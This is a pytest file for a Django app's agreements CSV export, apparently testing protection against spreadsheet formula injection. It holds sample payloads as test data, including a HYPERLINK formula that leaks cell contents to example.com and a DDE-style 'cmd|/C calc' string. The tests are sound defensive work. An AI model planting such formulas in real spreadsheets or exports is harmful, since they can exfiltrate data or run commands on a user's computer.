"""The agreements CSV never hands a spreadsheet a formula (OWASP "CSV Injection").

A cell starting with =, +, -, @, a tab or a carriage return is run by Excel, LibreOffice
and Google Sheets as a formula: any text an editor pasted from a source could then reach
out to the network or the command line on a journalist's computer. Such cells get a
leading single quote, and every cell is quoted.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from tests import factories

pytestmark = pytest.mark.django_db

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def csv_text(client: Client, path: str = "/api/v1/agreements/", **params) -> str:
    response = client.get(path, {"format": "csv", "lang": "ar", **params})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8").removeprefix("\ufeff")


def rows_of(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def agreement_titled(title: str, **values):
    return factories.agreement(
        slug="tricky",
        title_ar=title,
        parties=(factories.organization(), factories.organization()),
        **values,
    )


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_cell_starting_with_a_formula_trigger_gets_a_single_quote(client: Client, trigger):
    title = f'{trigger}HYPERLINK("http://example.com/?leak="&A1,"open")'
    agreement_titled(title)

    (row,) = rows_of(csv_text(client))

    assert row["title"] == "'" + title  # the quote, then the text exactly as stored


def test_every_text_column_is_neutralized_and_quoting_stays_correct(client: Client):
    party = factories.organization(name_ar="@SUM(1+1)*cmd|' /C calc'!A0")
    other = factories.organization(name_ar="وزارة")
    signer = factories.person(name_ar="-2+3")
    record = factories.agreement(
        slug="tricky",
        title_ar='=1+1,"; =2+2',
        summary_ar="+cmd",
        objectives_ar="\r\n=evil",
        place_city_ar="\t=1",
        parties=(party, other),
        duration_months=24,
    )
    record.signatories.create(person=signer, organization=party, title="=TITLE()")
    text = csv_text(client)

    (row,) = rows_of(text)

    assert row["title"] == "'=1+1,\"; =2+2"
    assert row["summary"] == "'+cmd"
    assert row["objectives"] == "'\r\n=evil"
    assert row["place_city"] == "'\t=1"
    assert row["party_names"].startswith("'@SUM(1+1)")
    assert row["signatory_names"] == "'-2+3"
    assert row["signatory_titles"] == "'=TITLE()"
    # Numbers stay numbers; safe text is untouched.
    assert row["duration_months"] == "24"
    assert row["citation_count"] == "0"
    assert row["slug"] == "tricky"
    assert not any(value.startswith(tuple(TRIGGERS)) for value in row.values())
    # Every cell is quoted, and quotes inside are doubled: a comma, a ";" or a quote in
    # a value cannot open a new cell, whatever separator the spreadsheet splits on.
    assert '"\'=1+1,""; =2+2"' in text
    header = text.splitlines()[0]
    assert header.startswith('"slug","url","title",')


def test_text_that_merely_contains_a_trigger_is_left_alone(client: Client):
    agreement_titled("مذكرة تفاهم = شراكة - 2025", summary_ar="'already quoted")

    (row,) = rows_of(csv_text(client))

    assert row["title"] == "مذكرة تفاهم = شراكة - 2025"
    assert row["summary"] == "'already quoted"


def test_the_single_agreement_csv_is_neutralized_too(client: Client):
    agreement_titled("=1+1")

    (row,) = rows_of(csv_text(client, "/api/v1/agreements/tricky/"))

    assert row["title"] == "'=1+1"
